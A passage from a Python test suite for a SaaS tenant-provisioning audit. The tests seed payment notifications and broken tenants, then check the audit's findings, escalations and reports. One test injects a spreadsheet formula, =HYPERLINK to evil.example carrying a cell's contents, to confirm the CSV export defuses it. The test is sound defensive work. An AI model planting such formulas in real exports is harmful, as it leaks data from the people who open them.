"""RB-001 section 7's weekly audit on the real embedded stores: purchases seeded through the real
intake and saga, broken the way the runbook describes, then audited in one pass per store."""

from __future__ import annotations

import csv
import dataclasses
import gc
import io
import json
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tenancy.advice import next_action
from tenancy.bootstrap import Services, build
from tenancy.cli.audit import CSV_COLUMNS, render_csv, render_markdown
from tenancy.config import PAYFAST_SANDBOX_MERCHANT_ID, PAYFAST_SANDBOX_PASSPHRASE
from tenancy.domain.clock import format_timestamp, utc_now
from tenancy.domain.ids import invoice_number_for, storage_prefix_for, tenant_id_for
from tenancy.domain.lifecycle import NoticeStatus, Trigger
from tenancy.domain.members import (
    Invitation,
    InvitationStatus,
    Role,
    invitation_secret_hash,
    new_invitation_link_parts,
)
from tenancy.domain.model import (
    Billing,
    JobStatus,
    OutboxMessage,
    OutgoingEmail,
    PaymentRecord,
    ProvisioningJob,
    Step,
    Tenant,
    TenantStatus,
    Usage,
    UserRecord,
    UserStatus,
)
from tenancy.domain.usage import Metric
from tenancy.errors import InvalidInputError, PermanentError
from tenancy.payments.simulator import build_itn, encode_form
from tenancy.ports import Mailer
from tenancy.provisioning.saga import TENANT_ADMIN_ROLE
from tenancy.provisioning.welcome import WELCOME_SUBJECT
from tenancy.runbook.audit import AuditReport, fix_findings, parse_duration, run_audit, window_start
from tenancy.runbook.audit_lookup import PageLookup, members_among, unrecorded_among
from tenancy.runbook.diagnose import classify
from tenancy.runbook.evidence import EvidenceStores, Purchase, Selector, find_purchase, gather
from tenancy.runbook.findings import ESCALATION, Finding
from tenancy.runbook.rules import RULES

from helpers import make_settings
from runbook_cases import hand_written_tenant

PAYFAST_ADDRESS = "197.97.145.145"
WEEK = timedelta(days=7)
NOT_FAILURES = {finding for finding in Finding if not finding.is_failure}
HOUR = 3600


@pytest.fixture
def services(tmp_path: Path) -> Iterator[Services]:
    # Offline PayFast mode: accepted ITNs need no validate endpoint; signature and amount still count.
    built = build(make_settings(tmp_path / "home", payfast_mode="offline"))
    yield built
    built.close()


# --- Seeding through the real code paths -------------------------------------------------------


@dataclass(frozen=True)
class ShiftedClock:
    """The real clock, `ago` in the past: records written through it are that old."""

    ago: timedelta

    def now(self) -> datetime:
        return utc_now() - self.ago


def back_in_time(services: Services, ago: timedelta) -> Services:
    return dataclasses.replace(services, clock=ShiftedClock(ago))


class FailingMailer:
    """Every send fails for good (the mailbox does not exist)."""

    def __init__(self, real: Mailer) -> None:
        self._real = real

    def send(self, email: OutgoingEmail) -> str:
        raise PermanentError("550 5.1.1 mailbox unavailable")

    def outbox(self, to: str | None = None, limit: int = 100) -> Sequence[OutboxMessage]:
        return self._real.outbox(to, limit)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._real, name)


def provision(services: Services, transaction_id: str, email: str) -> None:
    """RB-001 4.1's manual trigger: the saga runs at once."""
    services.provision_now(transaction_id, email, "professional")


def send_itn(
    services: Services,
    transaction_id: str,
    email: str,
    *,
    status: str = "COMPLETE",
    amount: str = "299.00",
    passphrase: str = PAYFAST_SANDBOX_PASSPHRASE,
    pf_payment_id: str | None = None,
    without: tuple[str, ...] = (),
    token: str | None = None,
    billing_date: str | None = None,
) -> PaymentRecord:
    fields = build_itn(
        transaction_id=transaction_id,
        email=email,
        plan="professional",
        amount=amount,
        merchant_id=PAYFAST_SANDBOX_MERCHANT_ID,
        passphrase=passphrase,
        status=status,
        pf_payment_id=pf_payment_id,
        token=token,
        billing_date=billing_date,
    )
    kept = [(key, value) for key, value in fields if key not in without]
    return services.intake.receive(encode_form(kept), PAYFAST_ADDRESS)


def email_of(transaction_id: str) -> str:
    return f"{transaction_id.lower()}@example.com"


HEALTHY = ("TXN-H1", "TXN-H2", "TXN-H3")
IDENTITY_DELETED = "TXN-IDENTITY"  # 4.2
TENANT_DELETED = "TXN-TENANT"  # 4.3
MAILER_FAILED = "TXN-MAILFAIL"  # 4.4, the job dead-lettered on the welcome step
EMAIL_DROPPED = "TXN-MAILGONE"  # 4.4, two hours ago: RB-001 section 6's hour has passed
MESSAGE_DEAD_LETTERED = "TXN-DLQ"  # 4.1, paid but the job's message went to the DLQ
STILL_QUEUED = "TXN-QUEUED"  # a worker will get to it
AMOUNT_REJECTED = "TXN-AMOUNT"
SIGNATURE_REJECTED = "TXN-FORGED"
PAYMENT_FAILED = "TXN-FAILED"  # PENDING ten days ago, FAILED now
SECOND_PURCHASE = "TXN-SECOND"  # by the owner of TXN-H1
OLD_HEALTHY = "TXN-OLD-OK"  # thirty days ago: outside a week's window
OLD_BROKEN = "TXN-OLD-BROKEN"
OLD_REJECTED = "TXN-OLD-AMOUNT"

REPAIRABLE = {
    IDENTITY_DELETED: Finding.IDENTITY_USER_MISSING,
    TENANT_DELETED: Finding.TENANT_RECORD_MISSING,
    MAILER_FAILED: Finding.WELCOME_EMAIL_MISSING,
    EMAIL_DROPPED: Finding.WELCOME_EMAIL_MISSING,
    MESSAGE_DEAD_LETTERED: Finding.PROVISIONING_FAILED,
}
LEFT_ALONE = {
    AMOUNT_REJECTED: Finding.PAYMENT_NOT_COMPLETE,
    SIGNATURE_REJECTED: Finding.PAYMENT_NOT_COMPLETE,
    PAYMENT_FAILED: Finding.PAYMENT_NOT_COMPLETE,
    SECOND_PURCHASE: Finding.NEEDS_REVIEW,
}


def seed_week(services: Services) -> None:
    """A week of purchases: healthy ones, each RB-001 failure, and some older than the week."""
    month_ago = back_in_time(services, timedelta(days=30))
    provision(month_ago, OLD_HEALTHY, email_of(OLD_HEALTHY))
    provision(month_ago, OLD_BROKEN, email_of(OLD_BROKEN))
    services.identity.delete_user(email_of(OLD_BROKEN))
    send_itn(month_ago, OLD_REJECTED, email_of(OLD_REJECTED), amount="1.00")
    send_itn(back_in_time(services, timedelta(days=10)), PAYMENT_FAILED, email_of(PAYMENT_FAILED),
             status="PENDING", pf_payment_id="900001")  # fmt: skip

    for transaction_id in HEALTHY:
        provision(services, transaction_id, email_of(transaction_id))
    provision(services, IDENTITY_DELETED, email_of(IDENTITY_DELETED))
    services.identity.delete_user(email_of(IDENTITY_DELETED))
    provision(services, TENANT_DELETED, email_of(TENANT_DELETED))
    services.tenants.delete(tenant_id_for(TENANT_DELETED))
    provision(dataclasses.replace(services, mailer=FailingMailer(services.mailer)), MAILER_FAILED,
              email_of(MAILER_FAILED))  # fmt: skip
    provision(back_in_time(services, timedelta(hours=2)), EMAIL_DROPPED, email_of(EMAIL_DROPPED))
    drop_outbox(services, email_of(EMAIL_DROPPED))
    send_itn(services, MESSAGE_DEAD_LETTERED, email_of(MESSAGE_DEAD_LETTERED))
    [message] = services.queue.receive(1, 30)
    services.queue.dead_letter(message.receipt, "transient: identity provider timed out (after 5 attempts)")
    send_itn(services, STILL_QUEUED, email_of(STILL_QUEUED))
    send_itn(services, AMOUNT_REJECTED, email_of(AMOUNT_REJECTED), amount="1.00")
    send_itn(services, SIGNATURE_REJECTED, email_of(SIGNATURE_REJECTED), passphrase="not-our-passphrase")
    send_itn(services, "", "nobody@example.com", without=("m_payment_id",))
    send_itn(services, PAYMENT_FAILED, email_of(PAYMENT_FAILED), status="FAILED", pf_payment_id="900001")
    provision(services, SECOND_PURCHASE, email_of(HEALTHY[0]))


def drop_outbox(services: Services, email: str) -> None:
    """The welcome email's row is lost (tests only: no code path deletes mail)."""
    assert services.database is not None
    with services.database.transaction() as connection:
        connection.execute("DELETE FROM outbox WHERE to_address = ?", (email,))


def audit(services: Services, window: timedelta = WEEK, stores: EvidenceStores | None = None) -> AuditReport:
    now = services.clock.now()
    return run_audit(stores or services.evidence_stores, since=now - window, now=now)


def findings_by_transaction(report: AuditReport) -> dict[str, Finding]:
    return {case.diagnosis.transaction_id or "": case.finding for case in report.cases}


def group_counts(report: AuditReport) -> dict[str, int]:
    return {group.finding.value: group.count for group in report.groups}


# --- Reading each store once -------------------------------------------------------------------


class ScanOnly:
    """The real store, except that any per-item lookup fails the test: the audit must read each
    store in pages and ask it only batched questions, however many tenants there are."""

    # Reads of a page of a store, batched look-ups for a page of purchases, the queue's one
    # listing and the mail provider's one summary for every case.
    SCANS = frozenset(
        {
            "scan",
            "scan_created",
            "scan_accepted",  # the accepted invitations, for a member whose users record is gone
            "notices",  # the dead lifecycle notices, once a page (each one raised an alert: few)
            "scan_transactions",
            "messages",
            "delivery_statistics",
            "tenant_ids",
            "get_many",
            "find_many",
            "find_by_transactions",
            "get_users",
            "find_by_emails",
            "outboxes",
        }
    )

    def __init__(self, real: object) -> None:
        self._real = real
        self.calls: Counter[str] = Counter()

    def __getattr__(self, name: str) -> Any:
        if name not in self.SCANS:
            raise AssertionError(f"the audit called {name}(): a per-item round trip")
        method = getattr(self._real, name)

        def counted(*arguments: Any, **keywords: Any) -> Any:
            self.calls[name] += 1
            return method(*arguments, **keywords)

        return counted


def scan_only(services: Services) -> tuple[EvidenceStores, list[ScanOnly]]:
    real = services.evidence_stores
    stores = {field.name: getattr(real, field.name) for field in dataclasses.fields(real)}
    proxies = {name: ScanOnly(store) for name, store in stores.items() if store is not None}  # no tenant_finder
    return EvidenceStores(**proxies), list(proxies.values())  # type: ignore[arg-type]


# --- The week's audit --------------------------------------------------------------------------


def test_weekly_audit_names_every_failure_of_the_week_and_counts_the_rest(services: Services) -> None:
    seed_week(services)

    report = audit(services)

    assert report.totals.as_document() == {
        "payments": 6,  # DLQ, queued, amount, forged, no transaction, FAILED (not the PENDING of 10 days ago)
        "rejected_payments": 3,
        "rejected_without_transaction": 1,
        "transactions": 13,
        "tenants": 6,  # H1-H3, identity deleted, mailer failed, email dropped (one was deleted)
        "healthy": 3,
        "in_progress": 1,
        "findings": 9,
        "failed_attempts": 1,  # the welcome email's one permanent failure (the DLQ message was parked unrun)
        "dead_lettered": 2,  # that job, and the message parked in the DLQ
        "repairs": 0,
        "redrives": 0,
    }
    assert group_counts(report) == {
        "payment_not_complete": 3,
        "provisioning_failed": 1,
        "identity_user_missing": 1,
        "tenant_record_missing": 1,
        "welcome_email_missing": 2,
        "needs_review": 1,
    }
    assert findings_by_transaction(report) == {**REPAIRABLE, **LEFT_ALONE}
    assert report.in_progress == (STILL_QUEUED,)
    # payment_not_complete first: looked into with RB-001 3.2's quick diagnosis.
    assert [group.finding.runbook_section for group in report.groups] == ["3.2", "4.1", "4.2", "4.3", "4.4", "6"]
    [welcome] = [group for group in report.groups if group.finding is Finding.WELCOME_EMAIL_MISSING]
    assert welcome.transaction_ids == (EMAIL_DROPPED, MAILER_FAILED)  # oldest first
    assert welcome.emails == (email_of(EMAIL_DROPPED), email_of(MAILER_FAILED))


def test_audit_and_diagnose_never_disagree(services: Services) -> None:
    seed_week(services)

    report = audit(services)

    runbook = services.runbook
    for case in report.cases:
        assert case.diagnosis.transaction_id is not None
        assert case.diagnosis == runbook.diagnose(Selector(transaction_id=case.diagnosis.transaction_id))
    for transaction_id in (*HEALTHY, STILL_QUEUED):
        expected = Finding.IN_PROGRESS if transaction_id == STILL_QUEUED else Finding.HEALTHY
        assert runbook.diagnose(Selector(transaction_id=transaction_id)).finding is expected
    audited = {*findings_by_transaction(report), *report.in_progress}
    assert len(audited) + report.totals.healthy == report.totals.transactions


def test_audit_asks_each_store_a_few_batched_questions_and_never_one_per_purchase(services: Services) -> None:
    seed_week(services)
    stores, proxies = scan_only(services)

    report = audit(services, stores=stores)

    assert report.totals == audit(services).totals
    # One page of each store (fewer than 1000 records): the tenants created and the ITNs received
    # in the window, then the journal's page (its old jobs' ITNs and own tenants first, to see
    # which of them the window holds), then the purchases with no job (the rejected ITNs').
    assert [dict(proxy.calls) for proxy in proxies] == [
        {"scan_transactions": 1, "find_many": 3},  # ledger
        {"tenant_ids": 2, "scan": 1, "get_many": 1},  # journal
        {"messages": 1},  # queue: listed once
        # tenants: and once for the users page, to tell the owners' records from the members'
        {"scan_created": 1, "get_many": 3, "find_by_transactions": 2},
        # users: scanned once for the team members (none here), and the owner links that are not their
        # purchaser's (the seeded mismatches) read in one batch
        {"find_by_emails": 2, "scan": 1, "get_many": 1},
        {"get_users": 2},  # identity
        {"outboxes": 2, "delivery_statistics": 1},  # mailer, and the provider's one summary
        {"get_many": 2},  # subscriptions: those of the tenants a page names, when its first case asks
        {"notices": 2},  # lifecycle: the dead notices, once a page
        {"scan_accepted": 1},  # team: the accepted invitations scanned once (none here)
    ]


def test_a_team_costs_the_audit_batched_reads_of_its_members_and_never_a_query_per_tenant(
    services: Services,
) -> None:
    seed_week(services)
    provision(services, TEAM_BROKEN, email_of(TEAM_BROKEN))
    seed_broken_team(services, tenant_id_for(TEAM_BROKEN), format_timestamp(services.clock.now()))
    stores, proxies = scan_only(services)  # a query for one tenant's people fails the test

    report = audit(services, stores=stores)

    assert findings_by_transaction(report) == {**REPAIRABLE, **LEFT_ALONE, TEAM_BROKEN: Finding.MEMBER_MISMATCH}
    users, identity = proxies[4], proxies[5]
    assert dict(users.calls) == {"find_by_emails": 2, "scan": 1, "get_many": 1}
    # The page's owners (twice, as without a team), the members when the users table is scanned,
    # and the members again with their purchase's page (each read is the store's answer of now).
    assert dict(identity.calls) == {"get_users": 4}


def test_escalations_follow_rb001_section_6(services: Services) -> None:
    seed_week(services)

    report = audit(services)

    escalations = {escalation.condition: escalation for escalation in report.escalations}
    assert list(escalations) == ["engineering", "finance", "security", "on_call"]
    assert escalations["engineering"].contact == ESCALATION["engineering"]
    assert escalations["engineering"].reason == "9 failed purchases in the window (more than 3)"
    assert set(escalations["engineering"].transaction_ids) == {*REPAIRABLE, *LEFT_ALONE}
    assert set(escalations["finance"].transaction_ids) == {AMOUNT_REJECTED, SECOND_PURCHASE}
    assert escalations["security"].transaction_ids == (SIGNATURE_REJECTED,)
    # The FAILED payment's purchase began with the PENDING ITN ten days ago.
    assert escalations["on_call"].transaction_ids == (PAYMENT_FAILED, EMAIL_DROPPED)
    assert {escalation.contact for escalation in report.escalations} == set(ESCALATION.values())


def test_ages_count_from_the_start_of_each_purchase(services: Services) -> None:
    seed_week(services)

    report = audit(services)

    ages = {case.diagnosis.transaction_id: case.age_seconds for case in report.cases}
    assert report.oldest_unresolved_age_seconds == ages[PAYMENT_FAILED]
    assert abs((ages[PAYMENT_FAILED] or 0) - 10 * 24 * HOUR) < 60
    assert abs((ages[EMAIL_DROPPED] or 0) - 2 * HOUR) < 60
    assert (ages[IDENTITY_DELETED] or 0) < 60
    [welcome] = [group for group in report.groups if group.finding is Finding.WELCOME_EMAIL_MISSING]
    assert welcome.oldest_age_seconds == ages[EMAIL_DROPPED]


def test_a_wider_window_takes_in_the_older_purchases(services: Services) -> None:
    seed_week(services)

    report = audit(services, window=timedelta(days=31))

    assert report.totals.transactions == 16
    assert report.totals.healthy == 4
    assert report.totals.payments == 8  # and the old rejected ITN, and the PENDING one
    assert findings_by_transaction(report)[OLD_BROKEN] is Finding.IDENTITY_USER_MISSING
    assert findings_by_transaction(report)[OLD_REJECTED] is Finding.PAYMENT_NOT_COMPLETE
    assert report.totals.findings == 11


def test_an_empty_week_has_no_findings_and_no_escalations(services: Services) -> None:
    provision(back_in_time(services, timedelta(days=8)), OLD_BROKEN, email_of(OLD_BROKEN))
    services.identity.delete_user(email_of(OLD_BROKEN))

    report = audit(services)

    assert report.totals.transactions == 0
    assert not report.has_findings
    assert report.escalations == ()
    assert report.oldest_unresolved_age_seconds is None
    assert "No failed provisioning attempts in this window." in render_markdown(report)
    assert render_csv(report) == ",".join(CSV_COLUMNS) + "\n"


def test_three_failures_are_not_yet_an_engineering_escalation(services: Services) -> None:
    for transaction_id in ("TXN-A", "TXN-B", "TXN-C"):
        provision(services, transaction_id, email_of(transaction_id))
        services.identity.delete_user(email_of(transaction_id))

    report = audit(services)

    assert report.totals.findings == 3
    assert report.escalations == ()


# --- The outputs -------------------------------------------------------------------------------


def test_json_csv_and_markdown_carry_the_same_counts(services: Services) -> None:
    seed_week(services)
    report = audit(services)

    document = json.loads(json.dumps(report.as_document(next_action)))
    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
    markdown = render_markdown(report)

    expected = group_counts(report)
    assert {group["finding"]: group["count"] for group in document["findings"]} == expected
    assert document["totals"]["findings"] == 9 == len(document["cases"]) == len(rows)
    assert document["window"] == {"since": format_timestamp(report.since), "now": format_timestamp(report.now)}
    assert document["oldest_unresolved_age_seconds"] == report.oldest_unresolved_age_seconds
    assert [escalation["condition"] for escalation in document["escalations"]] == [
        "engineering", "finance", "security", "on_call"
    ]  # fmt: skip
    assert tuple(rows[0]) == CSV_COLUMNS
    assert dict(Counter(row["finding"] for row in rows)) == expected
    [forged] = [row for row in rows if row["transaction_id"] == SIGNATURE_REJECTED]
    assert forged["escalate_to"] == ESCALATION["security"]
    assert forged["email"] == email_of(SIGNATURE_REJECTED)
    assert forged["runbook_section"] == "3.2"
    assert int(forged["age_seconds"]) < 60
    for finding, count in expected.items():
        section = Finding(finding).runbook_section or "-"
        assert f"| {finding} | {section} | {count} |" in markdown
    assert "| Findings | 9 |" in markdown
    assert "| Healthy | 3 |" in markdown
    assert f"- **{ESCALATION['security']}**: " in markdown


def test_markdown_cells_cannot_break_the_table(services: Services) -> None:
    send_itn(services, "TXN-PIPE", "pi|pe@example.com", amount="1.00")

    markdown = render_markdown(audit(services))

    [row] = [line for line in markdown.splitlines() if line.startswith("| TXN-PIPE |")]
    assert row.startswith("| TXN-PIPE | pi\\|pe@example.com | ")
    assert row.count(" | ") == 6  # seven cells, whatever the email says


def test_csv_cells_from_an_itn_cannot_start_a_spreadsheet_formula(services: Services) -> None:
    # A forged ITN is refused but kept, so its fields reach the audit.
    send_itn(services, "TXN-FORMULA", '=HYPERLINK("http://evil.example/?"&A2,"open")', passphrase="forged")

    [row] = [row for row in csv.DictReader(io.StringIO(render_csv(audit(services))))
             if row["transaction_id"] == "TXN-FORMULA"]  # fmt: skip

    assert row["email"].startswith("'=")
    assert "HYPERLINK" in row["email"].upper()


# --- --fix -------------------------------------------------------------------------------------


def test_fix_repairs_what_repair_can_and_leaves_payments_and_reviews_alone(services: Services) -> None:
    seed_week(services)
    before = audit(services)

    fixes = fix_findings(before, services.runbook, operator="weekly-audit")
    after = audit(services)

    assert {fix.transaction_id: (fix.before, fix.outcome, fix.after) for fix in fixes} == {
        transaction_id: (finding, "repaired", Finding.HEALTHY) for transaction_id, finding in REPAIRABLE.items()
    }
    assert findings_by_transaction(after) == LEFT_ALONE
    assert after.totals.healthy == 3 + len(REPAIRABLE)
    assert after.totals.findings == len(LEFT_ALONE)
    assert after.in_progress == (STILL_QUEUED,)
    entries = services.trail.entries()
    assert sorted((entry.transaction_id, entry.operator) for entry in entries) == sorted(
        (transaction_id, "weekly-audit") for transaction_id in REPAIRABLE
    )
    assert fix_findings(after, services.runbook, operator="weekly-audit") == ()


# --- --since -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("7d", timedelta(days=7)),
        ("24h", timedelta(hours=24)),
        ("90m", timedelta(minutes=90)),
        ("3650d", timedelta(days=3650)),
        (" 12H ", timedelta(hours=12)),
    ],
)
def test_since_accepts_days_hours_and_minutes(text: str, expected: timedelta) -> None:
    assert parse_duration(text) == expected


@pytest.mark.parametrize("text", ["", "7", "d", "7y", "-7d", "1.5d", "0d", "7d ago", "9999999999d"])
def test_since_refuses_anything_else_in_one_line(text: str) -> None:
    with pytest.raises(InvalidInputError) as raised:
        parse_duration(text)
    assert "\n" not in str(raised.value)


def test_a_window_reaching_before_year_one_is_refused() -> None:
    with pytest.raises(InvalidInputError, match="before the year 1"):
        window_start(utc_now(), parse_duration("999999d"))


# --- Scale -------------------------------------------------------------------------------------

SCALE = 2000


def seed_healthy_in_bulk(services: Services, count: int) -> None:
    """Healthy tenants written straight to the stores, as the saga leaves them."""
    now = format_timestamp(services.clock.now())
    plan = services.plans.get("starter")
    for number in range(count):
        transaction_id = f"TXN-BULK{number:06d}"
        tenant_id = tenant_id_for(transaction_id)
        email = f"bulk{number}@example.com"
        user = services.identity.create_user(
            email,
            {
                "email": email,
                "email_verified": "true",
                "custom:tenant_id": tenant_id,
                "custom:roles": TENANT_ADMIN_ROLE,
            },
            "Temporary-Passw0rd!",
        )
        services.journal.create(
            ProvisioningJob(
                transaction_id=transaction_id,
                tenant_id=tenant_id,
                invoice_number=invoice_number_for(transaction_id),
                email=email,
                plan=plan.name,
                tenant_name=email,
                status=JobStatus.SUCCEEDED,
                created_at=now,
                updated_at=now,
                completed_steps=tuple(Step),
                attempts=1,
                owner_user_id=user.sub,
            )
        )
        services.tenants.create(
            Tenant(
                tenant_id=tenant_id,
                owner_user_id=user.sub,
                name=email,
                plan=plan.name,
                status=TenantStatus.ACTIVE,
                limits=plan.limits,
                usage=Usage(),
                storage_prefix=storage_prefix_for(tenant_id),
                billing=Billing(transaction_id, invoice_number_for(transaction_id)),
                created_at=now,
                updated_at=now,
            )
        )
        services.users.create(UserRecord(user.sub, tenant_id, email, TENANT_ADMIN_ROLE, UserStatus.ACTIVE, now))
        services.mailer.send(OutgoingEmail(email, WELCOME_SUBJECT, "Welcome", tags={"transaction_id": transaction_id}))


def test_audit_of_2000_tenants_reads_each_store_once_and_finds_them_healthy(services: Services) -> None:
    seed_healthy_in_bulk(services, SCALE)
    stores, _ = scan_only(services)
    progressed: list[int] = []
    now = services.clock.now()

    started = time.perf_counter()
    report = run_audit(stores, since=now - timedelta(days=1), now=now, progress=progressed.append)
    elapsed = time.perf_counter() - started

    assert report.totals.healthy == SCALE
    assert report.totals.transactions == SCALE
    assert report.totals.tenants == SCALE
    assert report.totals.findings == 0
    # The tenants created in the window, then per page of the journal its jobs, their tenants,
    # identity users, users records and emails read, and its cases classified; and the users
    # records scanned for team members (none: no identity user is read for them).
    assert sum(progressed) == 8 * SCALE
    assert elapsed < 10, f"auditing {SCALE} tenants took {elapsed:.1f} s"


# --- One evidence path: the audit's look-ups and the stores' ------------------------------------

MISMATCHED = "TXN-MISMATCH"  # the identity user points at another tenant
OWNED_BY_ANOTHER = "TXN-OTHER-OWNER"
OWNER_UNLINKED = "TXN-NO-OWNER"
USERS_RECORD_DELETED = "TXN-NO-USERS"
SUSPENDED = "TXN-SUSPENDED"
STILL_PROVISIONING = "TXN-PROVISIONING"
CONFIRMED_WITHOUT_WELCOME = "TXN-CONFIRMED"  # the owner set a password: the welcome no longer matters
STALLED_BUT_DONE = "TXN-STALLED"  # the job looks lost, yet every store is healthy
NOWHERE = "TXN-NOWHERE"  # in no store at all
OPERATOR_PURCHASE = "TXN-OPERATOR"  # bought with an operator's email: an operator is not a tenant
BILLED_TWICE = "TXN-BILLED-TWICE"  # a tenant written by hand beside the project's own
RENEWAL_LOST = "TXN-RENEWAL-LOST"  # a subscription's renewal accepted, never applied
UNKNOWN_TOKEN = "TXN-UNKNOWN-TOKEN"  # a cancellation of a subscription no checkout here started
OVERDUE = "TXN-OVERDUE"  # paid through a month ago, no renewal, the sweep not run
UNDELIVERED = "TXN-UNDELIVERED"  # its tenant.activated event died undelivered
DELETED = "TXN-DELETED"  # the tenant left and was deleted
PEOPLE_LEFT = "TXN-PEOPLE-LEFT"  # deleted, but its owner's identity user is still there
HELD = "TXN-HELD"  # suspended by its subscription's lifecycle (payment overdue)
OVER_LIMIT = "TXN-OVER-LIMIT"  # more sites than its plan allows (a downgrade, a hand edit)
TEAM_BROKEN = "TXN-TEAM-BROKEN"  # a member's identity user deleted by hand, another's re-pointed
TEAM_UNRECORDED = "TXN-TEAM-UNRECORDED"  # a member's users record deleted by hand, its identity user kept


def seed_every_branch(services: Services) -> list[str]:
    """`seed_week`, and a purchase for each way a healthy-looking tenant can reach every rule of
    the registry, and a transaction two tenant records are billed to. Returns every transaction id
    seeded (and one that is in no store)."""
    seed_week(services)
    now = format_timestamp(services.clock.now())
    for transaction_id in (
        MISMATCHED, OWNED_BY_ANOTHER, OWNER_UNLINKED, USERS_RECORD_DELETED, SUSPENDED, STILL_PROVISIONING,
        CONFIRMED_WITHOUT_WELCOME, STALLED_BUT_DONE, OVER_LIMIT, TEAM_BROKEN, TEAM_UNRECORDED,
    ):  # fmt: skip
        provision(services, transaction_id, email_of(transaction_id))
    seed_broken_team(services, tenant_id_for(TEAM_BROKEN), now)
    seed_unrecorded_member(services, tenant_id_for(TEAM_UNRECORDED), now)
    services.identity.update_attributes(email_of(MISMATCHED), {"custom:tenant_id": "ten_somewhereelse"})
    services.tenants.set_owner(tenant_id_for(OWNED_BY_ANOTHER), "someone-else", now)
    services.tenants.set_owner(tenant_id_for(OWNER_UNLINKED), "", now)
    [record] = services.users.find_by_email(email_of(USERS_RECORD_DELETED))
    services.users.delete(record.user_id)
    services.tenants.set_status(tenant_id_for(SUSPENDED), TenantStatus.SUSPENDED, now)
    services.tenants.set_status(tenant_id_for(STILL_PROVISIONING), TenantStatus.PROVISIONING, now)
    # Written straight to the store (no trail entry): professional allows 5 sites.
    services.usage_store.correct(tenant_id_for(OVER_LIMIT), Metric.SITES, 9, now[:10], now)
    services.identity.set_password(email_of(CONFIRMED_WITHOUT_WELCOME), "Owner-Chosen-Passw0rd!", permanent=True)
    drop_outbox(services, email_of(CONFIRMED_WITHOUT_WELCOME))
    job = services.journal.get(STALLED_BUT_DONE)
    assert job is not None
    two_hours_ago = format_timestamp(services.clock.now() - timedelta(hours=2))
    services.journal.save(job.with_changes(status=JobStatus.RUNNING, updated_at=two_hours_ago))
    operator = email_of(OPERATOR_PURCHASE)
    services.identity.create_user(operator, {"email": operator, "custom:roles": "operator"}, "Operator-Passw0rd!")
    provision(services, OPERATOR_PURCHASE, operator)
    provision(services, BILLED_TWICE, email_of(BILLED_TWICE))
    hand_written_tenant(services, "twice@example.com", "ten_HANDMADE", BILLED_TWICE)
    token = "11111111-2222-4333-8444-555555555555"
    send_itn(services, RENEWAL_LOST, email_of(RENEWAL_LOST), pf_payment_id="910001", token=token)
    first_charge = services.journal.get(RENEWAL_LOST)
    assert first_charge is not None
    services.worker.run_job(first_charge)  # this job alone: seed_week's queued one stays queued
    send_itn(services, RENEWAL_LOST, email_of(RENEWAL_LOST), pf_payment_id="910002", token=token)
    subscription = services.subscriptions.get(tenant_id_for(RENEWAL_LOST))
    assert subscription is not None
    services.subscriptions.save(dataclasses.replace(subscription, periods_paid=1, history=subscription.history[:1]))
    unknown = "99999999-2222-4333-8444-555555555555"
    send_itn(
        services, UNKNOWN_TOKEN, email_of(UNKNOWN_TOKEN), status="CANCELLED", pf_payment_id="910003", token=unknown
    )
    seed_lifecycle(services)
    return [
        *HEALTHY, *REPAIRABLE, *LEFT_ALONE, STILL_QUEUED, OLD_HEALTHY, OLD_BROKEN, OLD_REJECTED, MISMATCHED,
        OWNED_BY_ANOTHER, OWNER_UNLINKED, USERS_RECORD_DELETED, SUSPENDED, STILL_PROVISIONING,
        CONFIRMED_WITHOUT_WELCOME, STALLED_BUT_DONE, OPERATOR_PURCHASE, BILLED_TWICE, RENEWAL_LOST, UNKNOWN_TOKEN,
        OVERDUE, UNDELIVERED, DELETED, PEOPLE_LEFT, HELD, OVER_LIMIT, TEAM_BROKEN, TEAM_UNRECORDED, NOWHERE,
    ]  # fmt: skip


def seed_broken_team(services: Services, tenant_id: str, now: str) -> None:
    """Three members besides the owner: one whole, one whose identity user was deleted by hand,
    one whose custom:tenant_id names another tenant."""
    for name, role in (("whole", "editor"), ("gone", "viewer"), ("elsewhere", "tenant_admin")):
        email = f"{name}.{tenant_id}@team.example.com"
        user = services.identity.create_user(
            email, {"email": email, "custom:tenant_id": tenant_id, "custom:roles": role}, "Member-Passw0rd!"
        )
        services.users.create(UserRecord(user.sub, tenant_id, email, role, UserStatus.ACTIVE, now))
    services.identity.delete_user(f"gone.{tenant_id}@team.example.com")
    elsewhere = f"elsewhere.{tenant_id}@team.example.com"
    services.identity.update_attributes(elsewhere, {"custom:tenant_id": "ten_elsewhere"})


def seed_unrecorded_member(services: Services, tenant_id: str, now: str) -> None:
    """A member who joined by invitation and whose users record was then deleted by hand: its
    identity user still names the tenant, and only the accepted invitation remembers it."""
    email = f"unrecorded.{tenant_id}@team.example.com"
    user = services.identity.create_user(
        email, {"email": email, "custom:tenant_id": tenant_id, "custom:roles": "editor"}, "Member-Passw0rd!"
    )
    invitation_id, secret = new_invitation_link_parts()
    invitation = Invitation(
        invitation_id, tenant_id, email, Role.EDITOR, invitation_secret_hash(secret), InvitationStatus.PENDING,
        "seed", now, "2999-01-01T00:00:00Z", now,
    )  # fmt: skip
    services.team_store.invite(invitation, max_users=5)
    assert services.team_store.accept(invitation_id, UserRecord(user.sub, tenant_id, email, "editor",
                                                                UserStatus.ACTIVE, now), now)  # fmt: skip
    services.users.delete(user.sub)


def seed_lifecycle(services: Services) -> None:
    """A purchase for each lifecycle rule: a move overdue, an event undelivered, a tenant deleted,
    and one deleted whose owner's identity user outlived it."""
    two_months_ago = (services.clock.now() - timedelta(days=62)).date().isoformat()
    send_itn(
        services,
        OVERDUE,
        email_of(OVERDUE),
        pf_payment_id="910004",
        token="22222222-2222-4333-8444-555555555555",
        billing_date=two_months_ago,
    )
    first_charge = services.journal.get(OVERDUE)
    assert first_charge is not None
    services.worker.run_job(first_charge)
    send_itn(services, HELD, email_of(HELD), pf_payment_id="910005", token="33333333-2222-4333-8444-555555555555")
    held = services.journal.get(HELD)
    assert held is not None
    services.worker.run_job(held)
    # As the sweep leaves it after the grace period (its paid-through date is next month's here).
    services.tenants.set_status(tenant_id_for(HELD), TenantStatus.SUSPENDED, format_timestamp(services.clock.now()))
    provision(services, UNDELIVERED, email_of(UNDELIVERED))
    [activated] = [n for n in services.lifecycle.notices() if n.tenant_id == tenant_id_for(UNDELIVERED)]
    services.lifecycle.update_notice(
